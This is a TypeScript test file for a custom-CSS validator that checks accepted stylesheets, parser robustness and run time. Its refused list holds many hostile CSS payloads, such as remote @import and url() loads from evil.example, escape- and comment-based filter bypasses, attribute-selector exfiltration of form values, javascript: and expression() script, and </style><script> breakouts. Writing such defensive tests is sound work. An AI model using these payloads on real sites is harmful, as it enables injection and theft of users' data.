// slow, sqlite
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import t from 'tap';
import { faultsOfCss } from '../../schema/school/custom-css.ts';

const require = createRequire(import.meta.url);

const ALLOWED = [
  '',
  'a { color: red }',
  '.hero { letter-spacing: 0.01em; }',
  '@media (min-width: 40em) { .a:hover > b::after { content: "\\201C }"; } }',
  '@media (400px <= width <= 700px) { p { margin: calc(1em + 2px) } }',
  '@font-face { font-family: "Own"; src: url(/fonts/own.woff2) format("woff2") }',
  "a { background: url('/img/x.png?v=1') ; filter: url( #blur ) }",
  '@keyframes x { from { opacity: 0 } to { opacity: 1 } } /* a } comment { */',
  '@supports (display: grid) { .image { object-fit: cover; border-image: none } }',
  '@layer base, site; @container (width > 1px) { :root { --brand: #123456 } }',
  '.src, .url, .expression { color: red }',
  'a[title="</"] { color: red }'.replace('</', '/'),
  '.card:not(:has(> input[value^="a"])) { background: url(/a) }',
  '.bar { position: fixed; inset: 0; z-index: 9999 }',
  'a::after { content: attr(data-label) "https://text.example" }',
  ':root { --a: url(/x.png); --b: --own(1px) } a { width: --own(var(--b)) }',
  'a { width: -webkit-calc(1px + 2px); background: -moz-linear-gradient(red, blue); filter: alpha(opacity=50) }',
  'a { background: url( "/x.png" ) }',
];

const REFUSED: [string, string][] = [
  ['@import', '@import "https://evil.example/a.css";'],
  ['@import in capitals', '@IMPORT url(/a.css);'],
  ['@import by an escape', '@\\69mport "https://evil.example/a.css";'],
  ['@import behind a comment', '/* */@import/**/"https://evil.example/a.css";'],
  ['@charset', '@charset "utf-7";'],
  ['@namespace', '@namespace url(/x);'],
  ['@document', '@-moz-document url-prefix("") { a { color: red } }'],
  ['another origin', 'a { background: url(https://evil.example/x) }'],
  ['another origin in quotes', 'a { background: url("https://evil.example/x") }'],
  ['another origin without a scheme', 'a { background: url(//evil.example/x) }'],
  ['another origin by a backslash', 'a { background: url("/\\evil.example/x") }'],
  ['another origin in capitals', 'a { background: URL(HTTPS://evil.example/x) }'],
  ['another origin by an escape', 'a { background: \\75rl(https://evil.example/x) }'],
  ['another origin by an escape in the target', 'a { background: url(\\2f\\2f evil.example/x) }'],
  ['another origin behind a comment', 'a { background: url(//**/evil.example/x) }'],
  ['another origin after a line break', 'a { background: url(\n//evil.example/x) }'],
  ['a second url()', 'a { background: url(/a), url(https://evil.example) }'],
  ['a relative address', 'a { background: url(x.png) }'],
  ['data', 'a { background: url(data:image/svg+xml;base64,AAAA) }'],
  ['script', 'a { background: url(javascript:alert(1)) }'],
  ['script elsewhere', 'a { x: javascript:alert(1) }'],
  ['url() that is not closed', 'a { background: url(/x'],
  ['image-set()', 'a { background: image-set("https://evil.example/x" 1x) }'],
  ['-webkit-image-set()', 'a { background: -webkit-image-set("https://evil.example/x" 1x) }'],
  ['image()', 'a { background: image("https://evil.example/x") }'],
  ['src()', 'a { background: src("https://evil.example/x") }'],
  ['src() of a variable', ':root { --x: "https://evil.example" } a { background: src(var(--x)) }'],
  ['src() of an attribute', 'a { background: src(attr(data-x)) }'],
  ['an attribute as a URL', 'a { background: attr(data-x type(<url>)) }'],
  ['image-set() of an attribute', 'a { background: image-set(attr(data-x) 1x) }'],
  ['a variable of another origin', ':root { --x: url(https://evil.example/x) }'],
  ['a variable of another origin without blanks', ':root{--x:url(//evil.example)}'],
  ['an initial value', '@property --x { syntax: "<url>"; inherits: false; initial-value: url(https://evil.example) }'],
  ['a font', '@font-face { font-family: x; src: local(y), url(https://evil.example/x.woff2) }'],
  ['a font by src()', '@font-face { font-family: x; src: src("https://evil.example/x.woff2") }'],
  ['a value of a form', 'input[value^="a"] { background: url(https://evil.example/a) }'],
  ['a value of a form by :has()', 'form:has(input[value^="a"]) { background: url(https://evil.example/a) }'],
  ['a cursor', 'a { cursor: url(https://evil.example/x), auto }'],
  ['a list', 'ul { list-style: url(https://evil.example/x) }'],
  ['a shape', 'a { clip-path: url(https://evil.example/x#y) }'],
  ['a counter', '@counter-style x { system: cyclic; symbols: url(https://evil.example/x) }'],
  ['filter() of a string', 'a { background: filter("https://evil.example/x", blur(1px)) }'],
  ['cross-fade()', 'a { background: cross-fade(url(https://evil.example/x), red) }'],
  [
    'a filter of a former browser',
    "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/x') }",
  ],
  ['element()', 'a { background: -moz-element(#x) }'],
  ['a function that nobody knows', 'a { background: load("https://evil.example/x") }'],
  ['url() with two targets', 'a { background: url("/a" "https://evil.example") }'],
  ['url() with modifiers', 'a { background: url("/a" crossorigin(anonymous)) }'],
  ['url() of a variable', 'a { background: url(var(--x)) }'],
  ['url() with a quote inside', 'a { background: url(/a"https://evil.example") }'],
  ['url() with a blank inside', 'a { background: url(/a https://evil.example) }'],
  ['url() with a bracket inside', 'a { background: url(/a(https://evil.example)) }'],
  ['url() with a tab in a string', 'a { background: url("/\t/evil.example") }'],
  ['url() with an escape in a string', 'a { background: url("\\2f/evil.example") }'],
  ['url() by an escape in capitals', 'a { background: u\\52 L(https://evil.example/x) }'],
  ['image-set() by an escape', 'a { background: im\\61ge-set("https://evil.example/x" 1x) }'],
  ['url() with a blank before its bracket', 'a { background: url (https://evil.example/x) }'],
  ['image-set() in a condition', '@supports (background: image-set("x" 1x)) { a { color: red } }'],
  ['@import after a rule', 'a { color: red } @import url(https://evil.example);'],
  ['@import in a block', '@media all { @import "https://evil.example"; }'],
  ['@view-transition', '@view-transition { navigation: auto }'],
  ['an at-rule of other letters', '@m\u0435dia print { a { color: red } }'],
  ['an at without a name', 'a { @ }'],
  ['expression()', 'a { width: expression(alert(1)) }'],
  ['expression() with a comment', 'a { width: expression/**/(alert(1)) }'],
  ['behavior', 'a { behavior: url(/x.htc) }'],
  ['-moz-binding', 'a { -moz-binding: url(/x.xml#a) }'],
  ['the end of the element', '</style><script>alert(1)</script>'],
  ['the end of the element in a string', 'a { content: "</style>" }'],
  ['the end of the element in a comment', '/* </STYLE > */'],
  ['the end of the element with blanks', 'a {} </ style>'],
  ['an HTML comment', '<!-- a { color: red } -->'],
  ['a comment that is not closed', 'a { color: red } /* x'],
  ['a string that is not closed', 'a { content: "x } '],
  ['a string over two lines', 'a { content: "x\n" }'],
  ['a bracket too many', 'a { color: red } }'],
  ['a bracket too few', '@media print { a { color: red }'],
  ['brackets across', 'a { width: calc(1px} )'],
  ['a backslash outside of strings', '.md\\:flex { display: flex }'],
  ['NUL', 'a { color: \u0000red }'],
  ['an escape at the end', 'a { color: red } \\'],
  ['a string that ends with an escape', 'a { content: "x\\'],
  ['a string with an escaped line break', 'a { content: "x\\\n" }'],
  ['a string behind an escaped quote', 'a { content: "x\\" }'],
  ['a comment of three characters', 'a { color: red } /*/'],
  ['a comment that opens url()', 'a { background: url(/x /* ) } */ ) }'],
  ['a bracket that only a comment closes', '@media print { a { color: red } /* } */'],
  ['the end of the element in url()', 'a { background: url(/</style>) }'],
  ['the end of the element in a name', 'a</style { color: red }'],
  ['half of a character', 'a { content: "\ud83d" }'],
];

t.test('well-formed custom CSS that loads nothing from another origin is accepted [D2]', async (t) => {
  for (const css of ALLOWED) t.strictSame(faultsOfCss(css), [], css);
});

t.test('custom CSS that loads from elsewhere, runs a script or is malformed is refused [D2]', async (t) => {
  for (const [what, css] of REFUSED) t.ok(faultsOfCss(css).length > 0, what);
});

t.test('of thousands of wrong at-rules, or a long one, an answer repeats little [D2]', async (t) => {
  const many = Array.from({ length: 2000 }, (_, n) => `@x${n} {}`).join('\n');
  for (const css of [many, `@${'x'.repeat(40_000)} {}`]) {
    const faults = faultsOfCss(css);
    t.match(faults[0], /^must not use @x/);
    t.ok(faults.join().length < 400, `${faults.join().length} characters`);
  }
});

/** The functions of all standards, of values and of selectors, as MDN lists them. */
const STANDARD = ['functions', 'selectors'].flatMap((name) =>
  Object.keys(JSON.parse(readFileSync(require.resolve(`mdn-data/css/${name}.json`), 'utf8')))
    .filter((one) => one.endsWith('()'))
    .map((one) => one.replace(/^:+/, '').slice(0, -1)),
);

t.test('every function of the standards is accepted, except those that take a URL as a string [D2]', async (t) => {
  t.ok(STANDARD.length > 110, `${STANDARD.length} functions`);
  const refused = STANDARD.filter((name) => faultsOfCss(`a { x: ${name}1) }`).length > 0);
  t.strictSame(refused, ['element(', 'image(', 'image-set(']);
});

/** Some systems count the time of the processor in such steps. */
const TICK_MS = 4;

/** The least that it takes of the processor: whatever else the machine does comes on top, and not each time. */
function leastMs(css: string): number {
  const tries = Array.from({ length: 3 }, () => {
    const before = process.threadCpuUsage();
    faultsOfCss(css);
    const { user, system } = process.threadCpuUsage(before);
    return (user + system) / 1000;
  });
  return Math.min(...tries);
}

t.test('validating hostile CSS takes no more time for each character of a longer text [D2]', async (t) => {
  const [short, times] = [32_000, 8];
  for (const unit of [
    '(',
    'a{',
    '/*',
    '"',
    'url(',
    '\\',
    '*/',
    'a{color:red}',
    '@a ',
    'u',
    'url (/x) ',
    'url ',
    'image ',
  ]) {
    const css = unit.repeat(short / unit.length);
    const [one, eight] = [leastMs(css), leastMs(css.repeat(times))];
    // By the square of its length it would be eight times as much for each, and soon be seconds.
    t.ok(eight <= 5 * times * Math.max(one, TICK_MS), `${unit}: ${eight} ms, and ${one} for an eighth of it`);
  }
});
